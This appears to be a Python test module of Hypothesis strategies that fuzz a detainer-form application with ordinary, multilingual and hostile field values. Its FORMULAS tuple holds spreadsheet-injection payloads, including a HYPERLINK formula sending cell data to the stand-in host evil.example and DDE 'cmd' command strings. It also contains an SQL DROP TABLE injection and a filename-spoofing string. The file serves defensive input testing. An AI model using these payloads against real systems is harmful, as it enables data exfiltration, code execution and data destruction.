"""Hypothesis strategies for what users type and files hold, good and bad alike."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

from hypothesis import strategies as st

from desk_app.domain.detainer import DetainerForm
from desk_app.domain.vocabulary import FormType

ZONE = ZoneInfo("America/New_York")

# Text a spreadsheet would run as a formula (OWASP "CSV injection"), and its cousins.
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
            "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/\",A2),\"//a\")",
            "'=already quoted", "=", "-", "+", "@")
SPECIAL = ("", " ", "   ", "\x00", "\n", "a\x00b", "José Ñúñez", "Nguyễn Văn Anh",
           "محمد عبد الله", "Иван Петров", "王小明", "O'Brien", "Robert'); DROP TABLE detainers;--",
           "%s%s%n", "{0}{1}", "\u202egnp.exe", "\ufeffBOM", "a" * 61, "a" * 201, "x" * 4001)

text = st.one_of(st.text(max_size=80), st.sampled_from(FORMULAS + SPECIAL),
                 st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
zones = st.sampled_from([UTC, ZONE, timezone(timedelta(hours=14)),
                         timezone(-timedelta(hours=12)), None])
instants = st.one_of(
    st.datetimes(min_value=datetime(2000, 1, 1), max_value=datetime(2030, 1, 1),
                 timezones=zones),
    st.datetimes(timezones=zones))  # year 1 to 9999, any zone or none
days = st.one_of(st.none(), st.dates(), st.dates(min_value=date(1900, 1, 1),
                                                 max_value=date(2026, 12, 31)))


# What a careful officer types: short, non-blank, in the past, but in any script.
plausible_text = st.one_of(st.text(min_size=1, max_size=20).filter(str.strip),
                           st.sampled_from(FORMULAS[:5] + SPECIAL[6:15]))
past = st.datetimes(min_value=datetime(2000, 1, 1), max_value=datetime(2026, 11, 25, 18),
                    timezones=st.sampled_from([UTC, ZONE]))
TEXT_FIELDS = ("detainer_number", "case_number", "subject_name", "booking_number",
               "subject_id", "event_number", "file_number", "citizenship", "sex",
               "issuing_office", "issuing_officer", "issuing_phone", "reason_for_detainer",
               "arrest_location", "offenses", "receipt_correction_reason")


@st.composite
def forms(draw: st.DrawFn) -> DetainerForm:
    """A detainer form as anything could fill it in (about half of them acceptable)."""
    careful = draw(st.booleans())
    values = {name: draw(plausible_text if careful else text) for name in TEXT_FIELDS}
    flags = {name: draw(st.booleans()) for name in (
        "ground_final_order", "ground_pending_proceedings", "ground_biometric_match",
        "ground_statements", "box2_transferred", "request_notify", "request_hold",
        "request_serve_copy", "criminal_history", "resident")}
    return DetainerForm(**values, **flags, form_type=draw(st.sampled_from(FormType)),
                        received_at=draw(past if careful else instants),
                        date_of_birth=draw(days))
